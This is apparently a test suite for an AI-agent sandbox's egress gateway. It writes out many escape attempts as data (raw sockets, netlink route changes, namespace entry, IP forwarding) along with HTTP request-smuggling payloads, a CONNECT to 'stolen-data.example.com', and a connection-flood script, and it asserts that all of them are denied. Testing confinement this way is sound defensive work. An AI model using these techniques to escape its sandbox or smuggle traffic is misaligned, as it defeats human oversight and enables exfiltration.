import { randomUUID } from "node:crypto";
import { createServer, type Server, type Socket } from "node:net";
import { type EgressEvent, type EgressPolicy, Secret } from "@glovebox/core/provider";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { finish, run, sandboxFixture, until } from "./sandbox-fixture.ts";
import { type TlsServer, tlsFixture } from "./tls-fixture.ts";

const fixture = sandboxFixture();
const tls = tlsFixture();
const abstractName = `glovebox-${randomUUID()}`;
/** What reached a server that nothing may reach, or one that may be reached by another name only. */
const reached: string[] = [];
let model: TlsServer;
let service: Server;
let servicePort = 0;
let abstractService: Server;
let policy: EgressPolicy;

const listening = (server: Server, at: number | string): Promise<void> =>
  new Promise((resolve) => {
    if (typeof at === "string") server.listen(at, resolve);
    else server.listen(at, "127.0.0.1", resolve);
  });

beforeAll(async () => {
  model = await tls.serve((request, response) => {
    reached.push(`model ${request.method} ${request.url}`);
    response.end("model");
  });
  service = createServer((socket) => {
    socket.on("error", () => {});
    socket.on("data", (bytes) => reached.push(`service ${bytes.toString("latin1").slice(0, 80)}`));
  });
  abstractService = createServer(() => reached.push("abstract socket"));
  await listening(service, 0);
  await listening(abstractService, `\0${abstractName}`);
  const address = service.address();
  servicePort = typeof address === "object" && address !== null ? address.port : 0;
  policy = {
    mode: "standard",
    models: [
      {
        id: "model",
        upstream: model.url,
        paths: [{ method: "POST", path: "/v1/messages" }],
        credential: { header: "x-api-key", secret: new Secret("KEY", "the-key-of-the-run") },
      },
    ],
    allow: [
      { host: "localhost", port: servicePort, source: "test" },
      { host: "127.0.0.1", port: servicePort, source: "test" },
    ],
  };
});

afterAll(async () => {
  const closed = [service, abstractService].map((server) => new Promise((resolve) => server.close(resolve)));
  await Promise.all([model.close(), ...closed]);
});

/** Ways around the gateway, by the kernel. Each line is an expression of Python that has to raise an error. */
const kernel: Readonly<Record<string, string>> = {
  "a raw packet socket": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
  "a raw IP socket": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
  "a raw IPv6 socket": "socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)",
  "a new interface":
    "netlink(16, struct.pack('=BxHiII', 0, 0, 0, 0, 0) + attribute(3, b'evil0\\0') + attribute(18, attribute(1, b'dummy')))",
  "a route": "netlink(24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + attribute(4, struct.pack('=I', 1)))",
  "an abstract socket of the host's": "socket.socket(socket.AF_UNIX).connect('\\0ABSTRACT')",
  "UDP to the engine's bridge": "udp(socket.AF_INET, ('172.17.0.1', 53))",
  "UDP to a public address": "udp(socket.AF_INET, ('192.0.2.1', 53))",
  "UDP to an IPv6 address": "udp(socket.AF_INET6, ('2001:db8::1', 53))",
  multicast: "udp(socket.AF_INET, ('224.0.0.251', 5353))",
  "a broadcast": "udp(socket.AF_INET, ('255.255.255.255', 67))",
  "TCP to IPv6": "socket.create_connection(('2001:db8::1', 443), 3)",
  SCTP: "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(('172.17.0.1', 22))",
  "the host's loopback": "socket.create_connection(('127.0.0.1', SERVICE), 3)",
  "a tunnel device": "os.open('/dev/net/tun', os.O_RDWR)",
  "another network's namespace": "enter('/proc/1/ns/net')",
  forwarding: "open('/proc/sys/net/ipv4/ip_forward', 'w').write('1')",
};

/** Forms of a request that have to be refused. `MODEL` and `SERVICE` are the model's authority and a port that is allowed. */
const requests: Readonly<Record<string, string>> = {
  "the model's host with a key of one's own": "CONNECT MODEL HTTP/1.1\r\nHost: MODEL\r\n\r\n",
  "the same in plain form":
    "POST http://MODEL/v1/messages HTTP/1.1\r\nHost: MODEL\r\nx-api-key: mine\r\nContent-Length: 0\r\n\r\n",
  "the same over https": "POST https://MODEL/v1/files HTTP/1.1\r\nHost: MODEL\r\nContent-Length: 0\r\n\r\n",
  "the same as a number": "CONNECT 0x7f000002:PORT HTTP/1.1\r\nHost: x\r\n\r\n",
  "the same as a mapped address": "CONNECT [::ffff:127.0.0.2]:PORT HTTP/1.1\r\nHost: x\r\n\r\n",
  "the same with a dot": "CONNECT 127.0.0.2.:PORT HTTP/1.1\r\nHost: x\r\n\r\n",
  "the same in full width": "CONNECT \xef\xbc\x91\xef\xbc\x92\xef\xbc\x97.0.0.2:PORT HTTP/1.1\r\nHost: x\r\n\r\n",
  "the same behind a user": "CONNECT localhost:SERVICE@MODEL HTTP/1.1\r\nHost: x\r\n\r\n",
  "the model's files": "POST /model/model/v1/files HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
  "the model's files by dots":
    "POST /model/model/v1/messages/../files HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
  "the model's files by a code":
    "POST /model/model/v1/messages%2f..%2ffiles HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
  "a method of its own": "DELETE /model/model/v1/messages HTTP/1.1\r\nHost: x\r\n\r\n",
  "another run's route": "POST /model/another/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
  "a control side": "GET /configure HTTP/1.1\r\nHost: x\r\n\r\n",
  "a tunnel to the gateway itself": "CONNECT 127.0.0.1:47821 HTTP/1.1\r\nHost: x\r\n\r\n",
  "a length and chunks":
    "POST http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
  "chunks of an unknown kind":
    "POST http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\nTransfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n",
  "two hosts": "GET http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\nHost: MODEL\r\n\r\n",
  "a folded header": "GET http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\n x: y\r\n\r\n",
  "bare line ends": "GET http://localhost:SERVICE/ HTTP/1.1\nHost: localhost:SERVICE\n\n",
  "a zero byte": "GET http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\nX: a\0b\r\n\r\n",
  "headers without end": `GET http://localhost:SERVICE/ HTTP/1.1\r\nHost: localhost:SERVICE\r\nX: ${"a".repeat(40_000)}\r\n\r\n`,
  "HTTP/2 at once": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
  "HTTP/2 by upgrade":
    "POST /model/model/v1/messages HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nContent-Length: 0\r\n\r\n",
  "a WebSocket to the model":
    "GET http://MODEL/ HTTP/1.1\r\nHost: MODEL\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
  "control characters in a name": "CONNECT \x1b]0;evil\x07:443 HTTP/1.1\r\nHost: x\r\n\r\n",
  "a name to be looked up": "CONNECT stolen-data.example.com:443 HTTP/1.1\r\nHost: x\r\n\r\n",
  "a hello for another name": `${"CONNECT localhost:SERVICE HTTP/1.1\r\nHost: x\r\n\r\n"}HELLO:elsewhere.test`,
  "a hello for no name": `${"CONNECT localhost:SERVICE HTTP/1.1\r\nHost: x\r\n\r\n"}HELLO:`,
  "a hello for another name in records of three bytes": `${"CONNECT localhost:SERVICE HTTP/1.1\r\nHost: x\r\n\r\n"}SPLIT:elsewhere.test`,
};

const program = String.raw`
import json, os, socket, ssl, struct, sys, ctypes
given = json.load(sys.stdin)
def udp(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.sendto(b"x", address)
def attribute(kind, value):
    size = 4 + len(value)
    return struct.pack("=HH", size, kind) + value + b"\0" * (-size % 4)
def netlink(kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.send(struct.pack("=IHHII", 16 + len(body), kind, 0x605, 1, 0) + body)
    error = struct.unpack("=i", s.recv(4096)[16:20])[0]
    if error: raise OSError(-error, "netlink")
def enter(path):
    before = os.readlink("/proc/self/ns/net")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.setns(os.open(path, os.O_RDONLY), 0x40000000): raise OSError(ctypes.get_errno(), "setns")
    if os.readlink("/proc/self/ns/net") == before: raise OSError("the same namespace")
def hello(name):
    out = ssl.MemoryBIO()
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try: context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name or None).do_handshake()
    except ssl.SSLWantReadError: pass
    return out.read()
def split(record):
    body = record[5:]
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(body[i:i+3])) + body[i:i+3] for i in range(0, len(body), 3))
def ask(text):
    text, mark, name = text.partition("HELLO:") if "HELLO:" in text else text.partition("SPLIT:")
    s = socket.create_connection(("127.0.0.1", 47821)); s.settimeout(20)
    s.sendall(text.encode("latin1"))
    if mark:
        s.recv(4096)
        s.sendall(hello(name) if mark == "HELLO:" else split(hello(name)))
    answer = b""
    try:
        while chunk := s.recv(65536): answer += chunk
    except ConnectionError: pass
    return answer[:15].decode("latin1")
outcomes = {}
for what, expression in given["kernel"].items():
    try: outcomes[what] = f"passed {eval(expression)}"
    except Exception as error: outcomes[what] = "failed"
for what, text in given["requests"].items(): outcomes[what] = ask(text)
print(json.dumps(outcomes))
`;

function filled(texts: Readonly<Record<string, string>>): Record<string, string> {
  const authority = new URL(model.url).host;
  const fill = (text: string): string =>
    text
      .replaceAll("SERVICE", String(servicePort))
      .replaceAll("MODEL", authority)
      .replaceAll("PORT", String(model.port))
      .replaceAll("ABSTRACT", abstractName);
  return Object.fromEntries(Object.entries(texts).map(([what, text]) => [what, fill(text)]));
}

describe.each([
  ["the agent", false, (...argv: readonly [string, ...string[]]) => argv],
  ["a root inside", true, (...argv: readonly [string, ...string[]]) => ["sudo", ...argv] as const],
])("what %s tries by hand", (_, rootInside, as) => {
  it("fails, and is in the audit where it passes the gateway", { timeout: 120_000 }, async () => {
    const events: EgressEvent[] = [];
    const egressObserver = { onRequest: (event: EgressEvent) => events.push(event) };
    await using sandbox = await fixture.create({ egress: policy, rootInside }, { egressObserver });
    const input = JSON.stringify({ kernel: filled(kernel), requests: filled(requests) });
    const process = await sandbox.spawn(as("python3", "-c", program), { stdin: Buffer.from(input) });
    const done = await finish(process);
    expect(done.stderr).toBe("");
    const outcomes: Record<string, string> = JSON.parse(done.stdout);
    const passed = Object.entries(outcomes).filter(([, answer]) => !/^failed$|^HTTP\/1.1 40[0-9]/.test(answer));
    // After the tunnel stands, a refusal is an alert of TLS.
    expect(passed.map(([what, answer]) => [what, answer.slice(0, 3)])).toEqual(
      ["a hello for another name", "a hello for no name", "a hello for another name in records of three bytes"].map(
        (what) => [what, "\x15\x03\x03"],
      ),
    );
    // One that comes in two pieces may be reported twice: as a request that is refused, and as bytes that cannot be read.
    await until(async () => events.length >= Object.keys(requests).length, "each request is reported");
    expect(new Set(events.map(({ decision }) => decision))).toEqual(new Set(["denied"]));
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
    expect(JSON.stringify(events)).not.toMatch(/[\x00-\x1f\x7f-\x9f]|\\u00/);
    expect(reached).toEqual([]);
  });
});

const flood = `
const { connect } = require("node:net");
const [port, count] = process.argv.slice(1).map(Number);
const kinds = [
  (at) => "CONNECT localhost:" + at + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nheld",
  (at) => "POST http://localhost:" + at + "/ HTTP/1.1\\r\\nHost: localhost:" + at + "\\r\\nContent-Length: 99\\r\\n\\r\\nheld",
  () => "GET http://localhost",
  () => "POST /model/model/v1/messages HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nfffffff\\r\\n",
  (at) => "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".repeat(20),
];
for (let index = 0; index < count; index += 1) {
  const socket = connect(47821, "127.0.0.1");
  socket.on("error", () => {}).pause();
  socket.write(kinds[index % kinds.length](port));
}
setInterval(() => {}, 1000);
console.log("flooding");
`;

it("a flood of connections that never end holds up neither the sandbox nor its end", async () => {
  const open = new Set<Socket>();
  service.on("connection", (socket: Socket) => {
    open.add(socket);
    socket.once("close", () => open.delete(socket));
  });
  const sandbox = await fixture.create({ egress: policy, resources: { openFiles: 8192 } });
  try {
    const flooding = await sandbox.spawn(["node", "-e", flood, String(servicePort), "4000"]);
    for await (const chunk of flooding.output) if ("stream" in chunk) break;
    await until(async () => open.size > 50, "the flood is at the server");
    expect(await run(sandbox, ["echo", "alive"])).toMatchObject({ stdout: "alive\n", exitCode: 0 });
  } finally {
    await sandbox.destroy();
  }
  await until(async () => open.size === 0, "every connection outside is closed");
});
